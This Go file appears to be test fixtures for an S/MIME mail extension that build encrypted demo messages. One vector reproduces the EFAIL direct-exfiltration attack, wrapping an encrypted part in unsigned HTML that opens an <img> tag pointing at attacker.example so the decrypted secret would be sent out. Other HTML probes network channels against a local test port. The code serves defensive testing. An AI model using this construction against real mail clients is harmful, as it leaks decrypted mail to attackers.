package main

import (
	"github.com/mailseal/mailseal/internal/cms"
	"github.com/mailseal/mailseal/internal/testpki"
)

// demoAccount is the address of the demo webmail's user and of the identity test/e2e/p12 issues
// for it; demoSecret is the marker the end-to-end tests look for outside the decrypt window.
const (
	demoAccount = "demo@mailseal.test"
	demoSecret  = "MAILSEAL-DECRYPTED-7f3a9c"
)

// Encrypted messages for the demo identity: decrypted by the extension's decrypt window
// (test/e2e). Without a key a verifier says only that they are encrypted (or, for an encrypted
// part in a message that is not encrypted as a whole, that they are partly so).
var encryptedVectors = []vector{
	{name: "encrypted-demo-signed", expect: "encrypted",
		description: "signed by a V3 sender, then encrypted (AES-256-GCM) to the demo identity's key; text, HTML that tries the network, and an attachment",
		build: func(f *fixtures) ([]byte, error) {
			bank, err := f.pki.Issue(testpki.OrganizationProfile(testpki.Strict, "statements@bank.example", "Example Bank Ltd", acmeID, "GB"))
			if err != nil {
				return nil, err
			}
			signed, err := testpki.SignedEntity(demoContent(), []*testpki.Identity{bank}, cms.SignOptions{Detached: true})
			if err != nil {
				return nil, err
			}
			return encryptedToDemo(f, demoHeader("Example Bank <statements@bank.example>", "Your statement (encrypted)"), signed, "demo-signed")
		}},
	{name: "encrypted-demo-part-only", expect: "unsigned",
		description: "EFAIL's direct exfiltration: an encrypted part for the demo identity between two unsigned parts that open an <img src=\"http://…?\"> around it",
		build: func(f *fixtures) ([]byte, error) {
			inner, err := encryptedEntity(f, testpki.TextContent("The secret is "+demoSecret+".\n"), "demo-part")
			if err != nil {
				return nil, err
			}
			html := []byte("Content-Type: text/html; charset=utf-8\r\n\r\n<img src=\"http://attacker.example/collect?")
			tail := []byte("Content-Type: text/html; charset=utf-8\r\n\r\n\">")
			return testpki.Message(demoHeader("Mallory <mallory@example.net>", "Re: your statement"), testpki.Mixed(html, inner, tail)), nil
		}},
}

func init() { vectors = append(vectors, encryptedVectors...) }

func demoHeader(from, subject string) testpki.Header {
	return testpki.Header{From: from, To: "Demo User <" + demoAccount + ">", Subject: subject}
}

// demoContent is what the signer wrote: the To field repeated inside the signed content
// (so the reader sees whom the signer addressed), a text and an HTML alternative that tries
// every way HTML can reach the network, and an attachment. Each carries demoSecret.
func demoContent() []byte {
	alternative := testpki.Alternative(
		testpki.TextContent("Dear Demo User,\n\nyour statement for May is attached. Reference: "+demoSecret+".\n\nExample Bank\n"),
		[]byte("Content-Type: text/html; charset=utf-8\r\n\r\n"+
			"<html><head><style>@import url(http://127.0.0.1:8719/css-import); body{background:url(http://127.0.0.1:8719/css-background)}</style>"+
			"<link rel=\"stylesheet\" href=\"http://127.0.0.1:8719/link\"></head><body>"+
			"<p>Dear Demo User,</p><p>your statement for May is attached. Reference: <b>"+demoSecret+"</b>.</p>"+
			"<img src=\"http://127.0.0.1:8719/remote-image\" alt=\"remote image\">"+
			"<form action=\"http://127.0.0.1:8719/form\" method=\"post\"><input name=\"pin\"><button id=\"submit\">Send</button></form>"+
			"<script>document.title='script ran';</script>"+
			"<p>Example Bank</p></body></html>\r\n"))
	attachment := []byte("Content-Type: text/plain; charset=utf-8; name=\"statement.txt\"\r\n" +
		"Content-Disposition: attachment; filename=\"statement.txt\"\r\n\r\n" +
		"Statement May 2026\r\nBalance: 1,234.56 EUR\r\nReference: " + demoSecret + "\r\n")
	return append([]byte("To: Demo User <"+demoAccount+">\r\n"), testpki.Mixed(alternative, attachment)...)
}

// encryptedToDemo wraps entity for the demo identity, under h.
func encryptedToDemo(f *fixtures, h testpki.Header, entity []byte, seed string) ([]byte, error) {
	e, err := encryptedEntity(f, entity, seed)
	if err != nil {
		return nil, err
	}
	return testpki.Message(h, e), nil
}

// encryptedEntity is entity encrypted to the key of the demo identity, named by its
// subjectKeyIdentifier: test/e2e/p12 issues a new certificate for the same key at each run.
func encryptedEntity(f *fixtures, entity []byte, seed string) ([]byte, error) {
	demo, err := f.pki.Issue(testpki.SponsorProfile(testpki.Strict, demoAccount, "Demo", "User", "Mailseal Demo Ltd", acmeID, "GB", "Tester"))
	if err != nil {
		return nil, err
	}
	der, err := testpki.KeyIDEnvelope(entity, demo.Certificate, seed)
	if err != nil {
		return nil, err
	}
	return testpki.EncryptedEntity(der, true), nil
}
